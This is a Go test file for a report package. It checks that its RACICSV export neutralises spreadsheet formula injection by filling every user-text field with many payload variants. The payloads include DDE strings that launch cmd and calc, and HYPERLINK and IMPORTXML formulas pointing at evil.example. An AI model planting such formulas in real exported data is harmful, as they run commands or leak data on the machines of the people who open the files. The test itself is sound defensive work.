package report_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"

	"remit/model"
	"remit/report"
)

// formulas are texts that some spreadsheet runs, or once ran.
func formulas() []string {
	var all []string
	for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
		for _, before := range []string{"", " ", "\t", "\r", "\n", `"`, "'", "x;", "x,", "x;\"", "\u00a0", "; "} {
			all = append(all, before+sign+`cmd|'/c calc'!A1`)
		}
	}
	return append(all, `=HYPERLINK("http://evil.example","click")`, `=1+1`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
		`=IMPORTXML("http://evil.example","//a")`, "\u200b=1+1", "\ufeff=1+1", "=\u202e1+1")
}

// infested puts a text into every place of a report where somebody else's text can be.
func infested(r report.Report, text string) report.Report {
	book := *r.Book
	book.Roles = slices.Clone(book.Roles)
	for i := range book.Roles {
		book.Roles[i].Short, book.Roles[i].Title = text, text
	}
	book.Activities = slices.Clone(book.Activities)
	for i := range book.Activities {
		book.Activities[i].Title, book.Activities[i].Group = text, text
	}
	r.Book = &book
	f := *r.Framework
	f.Questions = slices.Clone(f.Questions)
	for i := range f.Questions {
		f.Questions[i].Short = text
	}
	r.Framework = &f
	follows := *r.Follows
	follows.Matrix.Rows = slices.Clone(follows.Matrix.Rows)
	for i := range follows.Matrix.Rows {
		follows.Matrix.Rows[i].Because = text
	}
	follows.Practices = slices.Clone(follows.Practices)
	for i := range follows.Practices {
		follows.Practices[i].Title, follows.Practices[i].Do = text, text
	}
	follows.Costs = slices.Clone(follows.Costs)
	for i := range follows.Costs {
		follows.Costs[i].Note, follows.Costs[i].Currency = text, text
	}
	r.Follows = &follows
	r.Session = &model.Session{Name: text, Client: text, Notes: map[string]string{"headcount": text}}
	return r
}

// live reports whether a spreadsheet could begin to read a formula anywhere in a cell.
func live(cell string) bool {
	for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
		part = strings.TrimLeft(part, " \"\u00a0")
		if part != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(part)[0]) {
			return true
		}
	}
	return false
}

func TestNoTextOfACSVIsAFormula(t *testing.T) {
	whole := whole(t, insurer())
	for _, text := range formulas() {
		r := infested(whole, text)
		var b bytes.Buffer
		if err := report.RACICSV(&b, r); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(r.Follows.Matrix.Rows)+1 {
			t.Errorf("%q: %d rows, want %d", text, len(rows), len(r.Follows.Matrix.Rows)+1)
		}
		for _, row := range rows {
			for _, cell := range row {
				if live(cell) {
					t.Fatalf("%q comes out as %q, which a spreadsheet runs", text, cell)
				}
			}
		}
	}
}

func ExampleRACICSV() {
	r := report.Report{
		Book: &model.Playbook{Roles: []model.Role{{ID: "ceo", Short: "=CEO"}}, Activities: []model.Activity{{ID: "a", Title: "-1 day", Group: "People"}}},
		Follows: &model.Deliverables{Posts: []model.Post{{Role: "ceo"}}, Matrix: model.Matrix{Columns: []string{"ceo"}, Rows: []model.MatrixRow{
			{Activity: "a", Cells: []model.Cell{{Letter: model.LetterAR}}, Because: "Somebody must."}}}},
	}
	var b bytes.Buffer
	fmt.Println(report.RACICSV(&b, r))
	fmt.Print(b.String())
	// Output:
	// <nil>
	// Area,Activity,'=CEO,Answers for it,Why,Depends on,Sources
	// People,'-1 day,A/R,'=CEO,Somebody must.,,
}
